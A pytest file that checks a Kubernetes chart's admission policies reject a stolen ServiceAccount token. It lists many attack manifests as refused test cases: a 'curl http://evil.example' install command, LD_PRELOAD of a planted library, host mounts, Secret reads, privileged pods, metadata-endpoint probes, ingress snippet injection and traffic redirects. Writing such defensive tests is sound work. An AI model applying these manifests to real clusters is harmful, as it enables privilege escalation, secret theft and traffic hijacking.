"""What the policies of the watcher's chart refuse to whoever stole the token of its ServiceAccount."""

from __future__ import annotations

import copy
import json
from collections.abc import Callable, Iterator
from functools import partial
from typing import Any

import pytest
import urllib3
import yaml
from kubernetes import client

from watcher.core.chart import defaults

from . import gateway_api
from .driving import eventually
from .helm import Helm
from .test_watcher_chart import Site, site

__all__ = ["site"]

Json = dict[str, Any]
Change = Callable[[Json], object]
NAME = "evil-model-serving"
REQUIRED = "{s3: {endpoint: e, existingSecret: s}, watch: {namespaces: [a]}}"


class Thief:
    """Calls the API server with the watcher's token, and applies as the watcher does."""

    def __init__(self, site: Site) -> None:
        authority = json.loads(site.kubeconfig.read_text())["clusters"][0]["cluster"]["certificate-authority"]
        self._pool = urllib3.PoolManager(ca_certs=authority)
        self._server, self._token = site.api.configuration.host, site.token()
        self.namespace = site.models.namespace

    def call(self, verb: str, path: str, body: Json | None = None, content_type: str = "application/json") -> str:
        """Return the status and the text of the answer."""
        headers = {"Authorization": f"Bearer {self._token}", "Content-Type": content_type}
        data = None if body is None else json.dumps(body).encode()
        answer = self._pool.request(verb, self._server + path, headers=headers, body=data, retries=False)
        return f"{answer.status} {answer.data.decode()}"

    def apply(self, manifest: Json, *, dry: bool = False, subresource: str = "") -> str:
        """Apply an object on the server; with `dry`, only ask whether it would be accepted."""
        group, plural = PATHS[manifest["kind"]]
        path = f"/{group}/namespaces/{self.namespace}/{plural}/{manifest['metadata']['name']}{subresource}"
        query = "?fieldManager=kubeserve&force=true" + "&dryRun=All" * dry
        return self.call("PATCH", path + query, manifest, "application/apply-patch+yaml")


PATHS = {
    "Deployment": ("apis/apps/v1", "deployments"),
    "Service": ("api/v1", "services"),
    "ConfigMap": ("api/v1", "configmaps"),
    "Event": ("api/v1", "events"),
    "HorizontalPodAutoscaler": ("apis/autoscaling/v2", "horizontalpodautoscalers"),
    "NetworkPolicy": ("apis/networking.k8s.io/v1", "networkpolicies"),
    "Ingress": ("apis/networking.k8s.io/v1", "ingresses"),
    "HTTPRoute": ("apis/gateway.networking.k8s.io/v1", "httproutes"),
}


@pytest.fixture
def models(site: Site) -> Iterator[tuple[Site, dict[str, Json]]]:
    """Install the chart, let the watcher deploy a model under its policies, and return its objects renamed."""
    gateway_api.install(site.api)
    runtime = client.NodeV1Api(site.api)
    runtime.create_runtime_class({"metadata": {"name": site.home}, "handler": "runsc"})
    site.install(
        f"watch.namespaces={{{site.models.namespace}}}",
        f"modelValues.deployment.runtimeClassName={site.home}",
        "modelValues.deployment.hostUsers=false",
        "modelValues.ingress.enabled=true",
        "modelValues.ingress.host=models.example.com",
        "modelValues.ingress.className=public",
        "modelValues.ingress.annotations.example\\.com/rewrite=/{namespace}-{model}",
        "modelValues.ingress.tls.enabled=true",
        "modelValues.ingress.tls.secretName=tls-{model}",
        "modelValues.httpRoute.hostnames[0]=m-{model}.example.com",
        "modelValues.httpRoute.enabled=true",
        "modelValues.httpRoute.parentRefs[0].name=public",
    )
    thief = Thief(site)
    # The API server enforces new policies within a moment.
    unmarked = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": NAME}}
    eventually(lambda: thief.apply(unmarked, dry=True).startswith("403 "))
    site.put("iris/v1/requirements.txt", b"pandas\n")
    site.put("iris/v1/model.joblib")
    paths = {
        kind: f"/{group}/namespaces/{thief.namespace}/{plural}/iris-model-serving"
        for kind, (group, plural) in PATHS.items()
        if kind not in {"Event", "NetworkPolicy"}
    }
    with site.watcher() as watcher:
        found = {kind: eventually(partial(read, thief, path)) for kind, path in paths.items()}
        eventually(lambda: "kubeserve.io/state" in read(thief, paths["Deployment"])["metadata"]["labels"])
    assert "orbidden" not in watcher.log.read_text()
    yield site, {kind: renamed(item) for kind, item in found.items()}
    site.uninstall()
    runtime.delete_runtime_class(site.home)


def read(thief: Thief, path: str) -> Json:
    status, _, text = thief.call("GET", path).partition(" ")
    return json.loads(text) if status == "200" else {}


def renamed(item: Json) -> Json:
    """Return a new object of another model that has what this one has."""
    kept = {key: item[key] for key in ("apiVersion", "kind", "spec", "data") if key in item}
    kept = json.loads(json.dumps(kept).replace("iris", "evil"))
    for assigned in ("clusterIP", "clusterIPs"):
        kept.get("spec", {}).pop(assigned, None)
    labels = item["metadata"]["labels"]
    annotations = {key: text.replace("iris", "evil") for key, text in item["metadata"].get("annotations", {}).items()}
    metadata = {"name": NAME, "namespace": item["metadata"]["namespace"], "labels": labels, "annotations": annotations}
    return {**kept, "metadata": metadata}


def pod(change: Change) -> tuple[str, Change]:
    return "Deployment", lambda item: change(item["spec"]["template"]["spec"])


def container(change: Change) -> tuple[str, Change]:
    return pod(lambda spec: change(spec["containers"][0]))


def volume(source: Json) -> tuple[str, Change]:
    return pod(lambda spec: spec["volumes"].append({"name": "more", **source}))


def variable(source: Json) -> tuple[str, Change]:
    return container(lambda found: found["env"].append({"name": "MORE", "valueFrom": source}))


def privilege(**fields: Any) -> tuple[str, Change]:
    return container(lambda found: found["securityContext"].update(fields))


def spec(kind: str, **fields: Any) -> tuple[str, Change]:
    return kind, lambda item: item["spec"].update(fields)


def share(found: Json, field: str) -> None:
    found[field] = True
    # Kubernetes refuses these together.
    del found["hostUsers"], found["securityContext"]["sysctls"]


def change_instance(item: Json) -> None:
    for labels in (item["spec"]["template"]["metadata"]["labels"], item["spec"]["selector"]["matchLabels"]):
        labels["app.kubernetes.io/instance"] = "victim"


def annotate(item: Json) -> None:
    item["metadata"]["annotations"]["nginx.ingress.kubernetes.io/configuration-snippet"] = "proxy_pass http://payroll;"


SECRET = {"name": "payroll", "key": "password"}
UNCONFINED = {"appArmorProfile": {"type": "Unconfined"}}
METADATA = {"httpGet": {"host": "169.254.169.254", "path": "/", "port": 80}}
MIRROR = {"type": "RequestMirror", "requestMirror": {"backendRef": {"name": "payroll", "port": 80}}}
REDIRECT = {
    "backendRefs": [],
    "filters": [{"type": "RequestRedirect", "requestRedirect": {"hostname": "evil.example.com"}}],
}
BACKEND = {"service": {"name": "payroll", "port": {"number": 80}}}


def first_init(found: Json) -> Json:
    return found["initContainers"][0]


def install(change: Change) -> tuple[str, Change]:
    return pod(lambda spec: change(next(item for item in spec["initContainers"] if item["name"] == "install")))


def rename_model(found: Json) -> None:
    """Give every container the model as another volume, which the server may write."""
    next(item for item in found["volumes"] if item["name"] == "model")["name"] = "other"
    for item in [*found["initContainers"], *found["containers"]]:
        mount = next(item for item in item["volumeMounts"] if item["name"] == "model")
        mount.update(name="other", readOnly=False)


def give_urls(found: Json) -> None:
    urls = next(item for item in first_init(found)["env"] if item["name"] == "KUBESERVE_URLS")
    found["containers"][0]["env"].append(urls)


def writable(name: str, found: Json) -> None:
    next(item for item in found["volumeMounts"] if item["name"] == name).pop("readOnly")


ATTEMPTS: dict[str, tuple[str, tuple[str, Change]]] = {
    "another image": ("only the images", container(lambda found: found.update(image="docker.io/evil"))),
    "another image in the init container": (
        "only the images",
        pod(lambda found: found["initContainers"][0].update(image="docker.io/evil")),
    ),
    "hostNetwork": ("of the node", pod(partial(share, field="hostNetwork"))),
    "hostPID": ("of the node", pod(partial(share, field="hostPID"))),
    "hostIPC": ("of the node", pod(partial(share, field="hostIPC"))),
    "hostPort": ("of the node", container(lambda found: found["ports"][0].update(hostPort=80))),
    "hostPath": ("emptyDir", volume({"hostPath": {"path": "/"}})),
    "a volume of a Secret": ("emptyDir", volume({"secret": {"secretName": "payroll"}})),
    "a projected Secret": ("emptyDir", volume({"projected": {"sources": [{"secret": {"name": "payroll"}}]}})),
    "a projected token": ("emptyDir", volume({"projected": {"sources": [{"serviceAccountToken": {"path": "t"}}]}})),
    "a claim": ("emptyDir", volume({"persistentVolumeClaim": {"claimName": "payroll"}})),
    "a foreign ConfigMap as volume": ("emptyDir", volume({"configMap": {"name": "payroll"}})),
    "the URLs as a volume": ("certificates", volume({"configMap": {"name": NAME}})),
    "one of the URLs as a volume": (
        "certificates",
        volume({"configMap": {"name": NAME, "items": [{"key": "urls-0", "path": "urls"}]}}),
    ),
    "a fourth container": (
        "download-model, install and inference-server alone",
        pod(lambda found: found["initContainers"].append({**first_init(found), "name": "another"})),
    ),
    "a container beside the server": (
        "download-model, install and inference-server alone",
        pod(lambda found: found["containers"].append({**found["containers"][0], "name": "install2", "ports": []})),
    ),
    "another program that downloads": (
        "the programs of the chart",
        pod(lambda found: first_init(found).update(command=["python", "-m", "http.server"])),
    ),
    "another program that installs": (
        "the programs of the chart",
        install(lambda found: found.update(command=["sh", "-c", "curl http://evil.example"])),
    ),
    "the program of the image": ("the programs of the chart", install(lambda found: found.pop("command"))),
    "the URLs in the server": ("only download-model reads", pod(give_urls)),
    "a server that writes its model": ("only download-model writes", container(partial(writable, "model"))),
    "a server that writes its packages": ("only install its packages", container(partial(writable, "packages"))),
    "packages written into the model": ("only download-model writes", install(partial(writable, "model"))),
    "a folder of code for Python": (
        "variables and working folder alone",
        install(lambda found: found["env"].append({"name": "PYTHONPATH", "value": "/model"})),
    ),
    "a library to preload": (
        "variables and working folder alone",
        container(lambda found: found["env"].append({"name": "LD_PRELOAD", "value": "/model/evil.so"})),
    ),
    "code in the working folder": (
        "variables and working folder alone",
        install(lambda found: found.update(workingDir="/model")),
    ),
    "a volume of another name, which anyone writes": ("each at its folder", pod(rename_model)),
    "code over the program": (
        "each at its folder",
        install(lambda found: found["volumeMounts"][0].update(mountPath="/app/server")),
    ),
    "a part of the model over the packages": (
        "each at its folder",
        container(lambda found: found["volumeMounts"][0].update(subPath="evil")),
    ),
    "secretKeyRef": ("no Secret", variable({"secretKeyRef": SECRET})),
    "configMapKeyRef": ("no Secret", variable({"configMapKeyRef": SECRET})),
    "envFrom": ("no Secret", container(lambda found: found.update(envFrom=[{"secretRef": {"name": "payroll"}}]))),
    "imagePullSecrets": ("imagePullSecrets", pod(lambda found: found.update(imagePullSecrets=[{"name": "payroll"}]))),
    "a token": ("ServiceAccount default", pod(lambda found: found.update(automountServiceAccountToken=True))),
    "an admin": ("ServiceAccount default", pod(lambda found: found.update(serviceAccountName="admin"))),
    "privileged": ("no privileges", privilege(privileged=True, allowPrivilegeEscalation=True)),
    "root": ("no privileges", privilege(runAsUser=0, runAsNonRoot=False)),
    "a capability": ("no privileges", privilege(capabilities={"add": ["NET_ADMIN"], "drop": ["ALL"]})),
    "no seccomp": ("no privileges", privilege(seccompProfile={"type": "Unconfined"})),
    "a runtime": ("no runtime but", pod(lambda found: found.update(runtimeClassName="another"))),
    "the runtime of the node": ("no runtime but", pod(lambda found: found.pop("runtimeClassName"))),
    "the users of the node": ("hostUsers: false", pod(lambda found: found.pop("hostUsers"))),
    "a pod as root": ("as root", pod(lambda found: found["securityContext"].update(runAsUser=0, runAsNonRoot=False))),
    "a node": ("choose no node", pod(lambda found: found.update(nodeName="control-plane"))),
    "a priority": ("choose no node", pod(lambda found: found.update(priorityClassName="system-node-critical"))),
    "tolerations": ("choose no node", pod(lambda found: found.update(tolerations=[{"operator": "Exists"}]))),
    "the label of another Service": (
        "labels of app.kubernetes.io",
        ("Deployment", lambda item: item["spec"]["template"]["metadata"]["labels"].update(app="shop")),
    ),
    "the pods' label of another model": ("instance of their own", ("Deployment", change_instance)),
    "a node by labels": ("choose no node", pod(lambda found: found.update(nodeSelector={"role": "control-plane"}))),
    "a scheduler": ("choose no node", pod(lambda found: found.update(schedulerName="evil"))),
    "AppArmor off": ("AppArmor", pod(lambda found: found["securityContext"].update(UNCONFINED))),
    "AppArmor off in a container": ("AppArmor", privilege(**UNCONFINED)),
    "a hook": ("lifecycle", container(lambda found: found.update(lifecycle={"preStop": METADATA}))),
    "a probe of the node": ("lifecycle", container(lambda found: found.update(livenessProbe=METADATA))),
    "no owner label": ("kubeserve.io/owner", ("Deployment", lambda item: item["metadata"].pop("labels"))),
    "another name": ("MODEL-model-serving", ("ConfigMap", lambda item: item["metadata"].update(name="payroll"))),
    "a Service for pods of others": ("select pods of models", spec("Service", selector={"app": "shop"})),
    "a Service for another model": (
        "pods of this model",
        ("Service", lambda item: item["spec"]["selector"].update({"app.kubernetes.io/instance": "victim"})),
    ),
    "a Service with an external IP": ("no address outside", spec("Service", externalIPs=["192.0.2.1"])),
    "a Service of a load balancer": ("no address outside", spec("Service", type="LoadBalancer")),
    "an autoscaler of another Deployment": (
        "own Deployment",
        ("HorizontalPodAutoscaler", lambda item: item["spec"]["scaleTargetRef"].update(name="shop")),
    ),
    "an Ingress for another Service": (
        "own Service",
        ("Ingress", lambda item: item["spec"]["rules"][0]["http"]["paths"][0].update(backend=BACKEND)),
    ),
    "an Ingress for the host of others": (
        "of modelValues.ingress",
        ("Ingress", lambda item: item["spec"]["rules"][0].update(host="payroll.example.com")),
    ),
    "an Ingress for every host": (
        "of modelValues.ingress",
        ("Ingress", lambda item: item["spec"]["rules"][0].pop("host")),
    ),
    "an Ingress for the path of others": (
        "of modelValues.ingress",
        ("Ingress", lambda item: item["spec"]["rules"][0]["http"]["paths"][0].update(path="/")),
    ),
    "an Ingress of another class": ("of modelValues.ingress", spec("Ingress", ingressClassName="internal")),
    "an Ingress with a certificate of others": (
        "of modelValues.ingress",
        spec("Ingress", tls=[{"hosts": ["models.example.com"], "secretName": "payroll"}]),
    ),
    "an Ingress with a snippet": ("annotations of modelValues", ("Ingress", annotate)),
    "an Ingress with another value of an annotation": (
        "annotations of modelValues",
        ("Ingress", lambda item: item["metadata"]["annotations"].update({"example.com/rewrite": "/payroll"})),
    ),
    "a route with an annotation": ("no annotations but", ("HTTPRoute", annotate)),
    "a route at another Gateway": (
        "of modelValues.httpRoute",
        ("HTTPRoute", lambda item: item["spec"]["parentRefs"][0].update(name="internal")),
    ),
    "a route at a Gateway elsewhere": (
        "of modelValues.httpRoute",
        ("HTTPRoute", lambda item: item["spec"]["parentRefs"][0].update(namespace="default")),
    ),
    "a route for the host of others": (
        "of modelValues.httpRoute",
        spec("HTTPRoute", hostnames=["payroll.example.com"]),
    ),
    "a route for every host": ("of modelValues.httpRoute", ("HTTPRoute", lambda item: item["spec"].pop("hostnames"))),
    "a route for every path": (
        "of modelValues.httpRoute",
        ("HTTPRoute", lambda item: item["spec"]["rules"][0]["matches"][0]["path"].update(value="/")),
    ),
    "an Ingress with a default": ("own Service", spec("Ingress", defaultBackend=BACKEND)),
    "a route to another Service": (
        "own Services",
        ("HTTPRoute", lambda item: item["spec"]["rules"][0]["backendRefs"][0].update(name="payroll")),
    ),
    "a route that copies to another Service": (
        "nothing else",
        ("HTTPRoute", lambda item: item["spec"]["rules"][0]["backendRefs"][0].update(filters=[MIRROR])),
    ),
    "a route that redirects": ("nothing else", ("HTTPRoute", lambda item: item["spec"]["rules"][0].update(REDIRECT))),
    "a route to another namespace": (
        "own Services",
        ("HTTPRoute", lambda item: item["spec"]["rules"][0]["backendRefs"][0].update(namespace="default")),
    ),
}


def test_stolen_token_writes_no_object_that_the_watcher_would_not_write(models: tuple[Site, dict[str, Json]]) -> None:
    site, objects = models
    thief = Thief(site)
    for kind, item in objects.items():
        assert thief.apply(item, dry=True).startswith("201 "), (kind, "the unchanged object has to be accepted")
    for attempt, (words, (kind, change)) in ATTEMPTS.items():
        item = copy.deepcopy(objects[kind])
        change(item)
        answer = thief.apply(item)
        assert answer.startswith("403 "), (attempt, answer)
        assert "ValidatingAdmissionPolicy" in answer, (attempt, answer)
        assert words in answer, (attempt, answer)


def test_ingress_without_a_class_gets_the_default_one_of_the_cluster(site: Site) -> None:
    """The API server fills it in before it asks the policies."""
    name, networking = f"default-{site.home}", client.NetworkingV1Api(site.api)
    mark = {"ingressclass.kubernetes.io/is-default-class": "true"}
    networking.create_ingress_class(
        {"metadata": {"name": name, "annotations": mark}, "spec": {"controller": "example.com/none"}}
    )
    try:
        site.install(
            f"watch.namespaces={{{site.models.namespace}}}",
            "modelValues.ingress.enabled=true",
            "modelValues.ingress.host=models.example.com",
        )
        thief = Thief(site)
        unmarked = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": NAME}}
        eventually(lambda: thief.apply(unmarked, dry=True).startswith("403 "))
        site.put("iris/v1/model.joblib")
        path = f"/apis/networking.k8s.io/v1/namespaces/{thief.namespace}/ingresses/iris-model-serving"
        with site.watcher() as watcher:
            made = eventually(partial(read, thief, path))
        assert made["spec"]["ingressClassName"] == name
        assert "orbidden" not in watcher.log.read_text()
        elsewhere = renamed(made)
        elsewhere["spec"]["rules"][0]["host"] = "payroll.example.com"
        assert "of modelValues.ingress" in thief.apply(elsewhere)
    finally:
        networking.delete_ingress_class(name)
    site.uninstall()


def test_stolen_token_changes_and_deletes_nothing_of_others(models: tuple[Site, dict[str, Json]]) -> None:
    site, objects = models
    thief, namespace = Thief(site), site.models.namespace
    foreign: Any = copy.deepcopy(objects["Deployment"])
    foreign["metadata"] = {"name": "shop-model-serving"}
    site.models.apps.create_namespaced_deployment(namespace, foreign)
    config: Any = {"metadata": {"name": "shop-model-serving"}}
    site.models.core.create_namespaced_config_map(namespace, config)
    labels = {"labels": objects["Deployment"]["metadata"]["labels"]}
    took = {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "shop-model-serving", **labels}}
    answers = {
        "take a Deployment over": thief.apply(took),
        "scale it": thief.apply({**took, "metadata": {"name": "shop-model-serving"}, "spec": {"replicas": 0}}),
        "claim that it failed": thief.apply({**took, "status": {"conditions": []}}, subresource="/status"),
        "delete it": thief.call("DELETE", f"/apis/apps/v1/namespaces/{namespace}/deployments/shop-model-serving"),
        "replace a ConfigMap": thief.apply(
            {"apiVersion": "v1", "kind": "ConfigMap", "metadata": took["metadata"], "data": {"a": "b"}}
        ),
        "replace the cluster's certificates": thief.apply(
            {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "kube-root-ca.crt", **labels}}
        ),
        "write an Event in the name of the kubelet": thief.apply(
            {
                "apiVersion": "v1",
                "kind": "Event",
                "metadata": {"name": "evil"},
                "involvedObject": {"kind": "Pod", "name": "shop", "namespace": namespace},
                "source": {"component": "kubelet"},
            }
        ),
    }
    for attempt, answer in answers.items():
        assert answer.startswith("403 "), (attempt, answer)
        assert "ValidatingAdmissionPolicy" in answer, (attempt, answer)
    assert site.models.deployment("shop").spec.replicas == 1


def test_stolen_token_of_all_namespaces_writes_in_labelled_ones_and_creates_no_others(site: Site) -> None:
    site.install("watch.allNamespaces=true", "watch.createNamespaces=true")
    thief, core = Thief(site), site.models.core
    labels = {"kubeserve.io/owner": f"{site.home}.watch"}
    item = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": NAME, "labels": labels}}
    core.patch_namespace(site.models.namespace, {"metadata": {"labels": {"kubeserve.io/models": None}}})
    eventually(lambda: "with the label kubeserve.io/models" in thief.apply(item, dry=True))
    core.patch_namespace(site.models.namespace, {"metadata": {"labels": {"kubeserve.io/models": "true"}}})
    eventually(lambda: thief.apply(item, dry=True).startswith("201 "))
    for name, more in (
        ("kube-evil", {}),
        (f"{thief.namespace}-x", {"pod-security.kubernetes.io/enforce": "privileged"}),
    ):
        body = {"metadata": {"name": name, "labels": {"kubeserve.io/models": "true", **more}}}
        answer = thief.call("POST", "/api/v1/namespaces?dryRun=All", body)
        assert answer.startswith("403 "), (name, answer)
        assert "no label but kubeserve.io/models" in answer, (name, answer)
    site.uninstall()


def kinds(helm: Helm, *arguments: str) -> set[str]:
    return {item["kind"] for item in helm.template("watch", "kubeserve", "home", REQUIRED, *arguments)}


def test_policies_are_left_out_where_the_cluster_lacks_the_api_or_the_operator_says_so(helm: Helm) -> None:
    policies = {"ValidatingAdmissionPolicy", "ValidatingAdmissionPolicyBinding"}
    assert policies <= kinds(helm)
    assert policies <= kinds(helm, "--kube-version", "1.30.2-eks-1")
    assert not policies & kinds(helm, "--kube-version", "1.29.9")
    assert not policies & kinds(helm, "--set", "admissionPolicy.enabled=false")


def images(helm: Helm, values: Json) -> list[str]:
    """Return the images that the policy allows."""
    given = {**yaml.safe_load(REQUIRED), **values}
    found = helm.template("watch", "kubeserve", "home", json.dumps(given))
    named = (item["spec"] for item in found if item["metadata"]["name"] == "home-watch-pods")
    (policy,) = (spec for spec in named if "validations" in spec)
    text = policy["validations"][0]["expression"].partition(" in ")[2].removesuffix(")")
    return list(json.loads(text))


def test_policy_allows_the_images_of_the_models_and_those_that_the_operator_adds(helm: Helm) -> None:
    default = defaults()["deployment"]["image"]
    assert images(helm, {}) == [f"{default['repository']}:{default['tag']}"]
    chosen = {"deployment": {"image": {"tag": "1.2"}}, "download": {"image": "fetch:1"}}
    values = {"modelValues": chosen, "admissionPolicy": {"images": ["sidecar:1"]}}
    assert images(helm, values) == [f"{default['repository']}:1.2", "fetch:1", "sidecar:1"]
